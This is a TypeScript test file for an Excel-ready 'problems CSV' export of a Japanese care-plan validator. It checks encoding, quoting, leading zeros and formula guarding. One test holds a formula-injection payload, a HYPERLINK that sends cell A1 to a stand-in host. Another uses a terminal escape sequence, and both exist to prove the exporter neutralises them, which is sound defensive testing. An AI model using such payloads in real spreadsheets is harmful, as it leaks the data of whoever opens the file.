// The problems CSV (src/report/problems-csv.ts): what an office clerk opens in Excel. Parsed back with csv-parse,
// it holds exactly the report's issues, in the report's order, with the advice of each code; the bytes are what
// Excel needs (BOM, CRLF, RFC 4180 quoting); no value can become a formula and no number loses its zeros.
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { validateFiles, validationRun, type Issue, type ValidationReport } from '../src/index.js';
import { makeIssue } from '../src/issues.js';
import { adviceOf } from '../src/messages/advice.js';
import { excelText, formatProblemsCsv, PROBLEMS_CSV_HEADINGS } from '../src/report/problems-csv.js';
import { unitLabel } from '../src/report/unit-label.js';
import { makeCtx } from '../src/cli/context.js';
import { renderValidation } from '../src/cli/output-formats.js';
import { runCommand } from './support/command.js';
import { loadSamples } from './support/send-units.js';

const NAME = 'UPPLAN_202504_1370100008_43_1370200006_11_20250325130000.CSV';

/** The CSV's rows: only CRLF ends a row, so a bare LF or CR between rows would show as a broken row. */
function rowsOf(csv: string): string[][] {
  return parse(csv, { bom: true, record_delimiter: '\r\n', relax_quotes: false }) as string[][];
}

/** What Excel shows of a cell, the guard undone: a leading `'` dropped, ="0012" read as the text 0012. */
function shown(cell: string): string {
  if (cell.startsWith("'")) return cell.slice(1);
  return /^="([^"]*)"$/.exec(cell)?.[1] ?? cell;
}

/** The cells an issue's row must hold, worked out here from the issue (not by the builder's code). */
function expectedCells(issue: Issue, unit: string): string[] {
  const sev = { error: 'エラー / error', warning: '警告 / warning', info: '情報 / info' }[issue.severity];
  const n = (v: number | undefined) => (v === undefined ? '' : String(v));
  // A line break in a cell is written as Excel writes one: LF.
  const t = (v: string) => v.replace(/\r\n?/g, '\n');
  return [
    unit,
    issue.file ?? issue.files?.join('、') ?? '',
    sev,
    issue.code,
    n(issue.line),
    n(issue.record),
    n(issue.field?.no),
    issue.field?.name ?? (issue.segment ? `ファイル名「${issue.segment.name}」` : ''),
    t(issue.value ?? ''),
    t(issue.message),
    adviceOf(issue.code, 'ja'),
    t(issue.messageEn),
    adviceOf(issue.code, 'en'),
  ];
}

/** A run of one file with these issues (the builder reads nothing else). */
function runOf(issues: Issue[]): ReturnType<typeof validationRun> {
  const report: ValidationReport = {
    files: [{ file: NAME, kind: 'UPPLAN', edition: '4.1', csvVersion: '202407', records: 3, issues }],
    units: [],
    issues,
    summary: { files: 1, errors: issues.length, warnings: 0, infos: 0 },
  };
  return validationRun(report);
}

const FIELD = { no: 12, key: 'consultationNote', name: '相談内容' };
const textIssue = (value: string, message = `値 ${JSON.stringify(value)} を確認してください。`): Issue =>
  makeIssue('FIELD_TOO_LONG', 'error', message, `Check the value ${JSON.stringify(value)}.`, { file: NAME, line: 4, record: 3, field: FIELD, value });

describe('problems CSV: the report, one issue a row', () => {
  const files = [...loadSamples('samples/4.1'), ...loadSamples('samples/broken')];
  const run = validationRun(validateFiles(files));
  const csv = formatProblemsCsv(run);

  it('starts with the UTF-8 byte order mark and ends every row with CRLF', () => {
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quoted cells, every line break is CRLF.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
  });

  it('parses back to a heading row and the report’s issues in its order (files’ issues, then the units’), with the advice of each code', () => {
    const rows = rowsOf(csv);
    expect(rows[0]).toEqual([...PROBLEMS_CSV_HEADINGS]);
    expect(run.report.issues.length).toBeGreaterThanOrEqual(3);
    expect(rows).toHaveLength(run.report.issues.length + 1);
    const unitOf = (issue: Issue) => {
      const unit = run.report.units.find((u) => (issue.unit !== undefined ? u.key === issue.unit : issue.file !== undefined && u.files.includes(issue.file)));
      return unit ? `${unitLabel(unit).ja} / ${unitLabel(unit).en}` : '';
    };
    run.report.issues.forEach((issue, i) => expect(rows[i + 1]!.map(shown), `${i}: ${issue.code}`).toEqual(expectedCells(issue, unitOf(issue))));
    // Every issue of the broken sample names its send unit as 送信元 → 送信先 and date-time.
    const broken = rows.filter((r) => r[1] === files.at(-1)!.name);
    expect(broken.length).toBeGreaterThan(0);
    for (const r of broken) expect(r[0]).toMatch(/^送信元 1370100008（.*43） → 送信先 1370200006（.*11）・作成 2025年3月25日 13:00:00 \/ from 1370100008 .* to 1370200006 .*, made 2025-03-25 13:00:00$/);
  });

  it('is what `careplan-csv validate --format csv` prints, for the report the command gives as JSON', () => {
    const args = ['validate', 'samples/4.1', 'samples/broken', '--profile', 'lenient'];
    const printed = runCommand([...args, '--format', 'csv']);
    const json = runCommand([...args, '--format', 'json']);
    expect(printed.code).toBe(1);
    expect(printed.stdout).toBe(formatProblemsCsv(validationRun(JSON.parse(json.stdout) as ValidationReport, { profile: 'lenient' })));
    expect(rowsOf(printed.stdout).length).toBe((JSON.parse(json.stdout) as ValidationReport).issues.length + 1);
  });
});

describe('problems CSV through the command', () => {
  it('prints CR only at the end of rows; a control character of a value is shown as text, as in every format', () => {
    let out = '';
    const ctx = makeCtx({ stdout: (s) => void (out += s), stderr: () => undefined, stdoutIsTTY: false, stderrIsTTY: false, env: {} }, 'ja');
    const run = runOf([textIssue('相談\r\n\u001b]0;x\u0007内容')]);
    ctx.stdout(renderValidation(ctx, run, 'csv'));
    expect(out).toBe(formatProblemsCsv(run).replace('\u001b', '\\u001b').replace('\u0007', '\\u0007'));
    expect(out.match(/\r/g)).toHaveLength(2);
  });
});

describe('problems CSV: cells Excel opens as written', () => {
  const cellsOf = (issue: Issue) => rowsOf(formatProblemsCsv(runOf([issue])))[1]!;

  it('keeps free text with quotes, commas and line breaks in one cell', () => {
    const value = '本人の希望は「自宅で暮らしたい」, 家族は"できる範囲で"支援。\r\n次回、再確認\n（長男）';
    const cells = cellsOf(textIssue(value));
    expect(cells).toHaveLength(PROBLEMS_CSV_HEADINGS.length);
    // The line breaks stay in the cell, as LF (Excel's line break in a cell); CR ends rows only.
    expect(cells[8]).toBe(value.replace('\r\n', '\n'));
    expect(cells[9]).toBe(`値 ${JSON.stringify(value)} を確認してください。`);
  });

  it('keeps 髙・﨑 and half-width ｶﾀｶﾅ as they are (UTF-8, which Excel reads by the BOM)', () => {
    const value = '髙﨑 ﾀﾛｳ（たかさき　たろう）';
    const csv = formatProblemsCsv(runOf([textIssue(value)]));
    expect(rowsOf(csv)[1]![8]).toBe(value);
    expect(Buffer.from(csv, 'utf8').includes(Buffer.from('髙﨑 ﾀﾛｳ', 'utf8'))).toBe(true);
  });

  it('guards a value Excel would run as a formula with a leading \'', () => {
    const attack = '=HYPERLINK("https://example.invalid/?d="&A1,"詳細")';
    expect(cellsOf(textIssue(attack))[8]).toBe(`'${attack}`);
    for (const start of ['+', '-', '@', '\t', '\n']) expect(cellsOf(textIssue(`${start}SUM(1,2)`))[8]).toBe(`'${start}SUM(1,2)`);
    expect(cellsOf(textIssue('\r\n=SUM(1,2)'))[8]).toBe("'\n=SUM(1,2)");
    // A value starting with ' is guarded too, so the guard undoes without doubt.
    expect(cellsOf(textIssue("'=1"))[8]).toBe("''=1");
    expect(cellsOf(textIssue('-5'))[8]).toBe("'-5");
  });

  it('keeps the leading zeros of insured and office numbers, and long digit strings, as text (="…")', () => {
    expect(cellsOf(textIssue('0000123456'))[8]).toBe('="0000123456"');
    expect(cellsOf(textIssue('20250325130000'))[8]).toBe('="20250325130000"');
    expect(cellsOf(textIssue('2025-04-01'))[8]).toBe('="2025-04-01"');
    // In the file, such a cell is quoted as RFC 4180 requires.
    expect(formatProblemsCsv(runOf([textIssue('0012')]))).toContain(',"=""0012""",');
    // Text that is not a number stays as it is; line numbers stay numbers.
    expect(cellsOf(textIssue('A1'))[8]).toBe('A1');
    expect(cellsOf(textIssue('0012'))[4]).toBe('4');
  });

  it('any values parse back to the same cells once the guard is undone, and no cell but ="digits" starts a formula', () => {
    const tricky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', "'", '0', '12', ' ', '髙', '﨑', 'ｶﾀｶﾅ', '="', '\uFEFF');
    const text = fc.array(fc.oneof(tricky, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 8 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(fc.record({ value: text, message: text }), { minLength: 1, maxLength: 5 }), (given) => {
        const issues = given.map((g) => textIssue(g.value, g.message));
        const rows = rowsOf(formatProblemsCsv(runOf(issues)));
        expect(rows).toHaveLength(issues.length + 1);
        issues.forEach((issue, i) => {
          const cells = rows[i + 1]!;
          expect(cells.map(shown)).toEqual(expectedCells(issue, ''));
          for (const cell of cells) {
            if (/^[=+\-@\t\r\n]/.test(cell)) expect(cell).toMatch(/^="\d[\d.,:/\-+eE ]*"$/);
            expect(cell).not.toContain('\r');
          }
        });
      }),
      { numRuns: 300 },
    );
  });

  it('excelText leaves ordinary text alone', () => {
    expect(excelText('サービス提供時間を確認')).toBe('サービス提供時間を確認');
    expect(excelText('')).toBe('');
  });
});
